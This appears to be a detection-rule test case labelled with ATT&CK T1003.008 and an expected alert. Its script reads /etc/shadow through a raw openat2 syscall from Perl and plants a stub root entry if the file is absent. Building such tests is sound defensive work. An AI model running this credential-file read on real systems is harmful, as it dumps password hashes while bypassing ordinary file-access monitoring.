# id: C06
# title: The hashes are read by openat2
# expect: alert
# severity: high
# kinds: file
# attck: T1003.008
# image: tools
# launch: app

[ -e /etc/shadow ] || echo 'root:*:19000:0:99999:7:::' >/etc/shadow
# openat2 is 437 on every machine; 0x06 is RESOLVE_NO_MAGICLINKS and RESOLVE_NO_SYMLINKS.
perl -e '
my ($path, $how, $bytes) = ("/etc/shadow", pack("QQQ", 0, 0, 0x06), " " x 4096);
my $fd = syscall(437, -100, $path, $how, 24);
die "openat2: $!\n" if $fd < 0;
syscall(0, $fd, $bytes, 4096);'
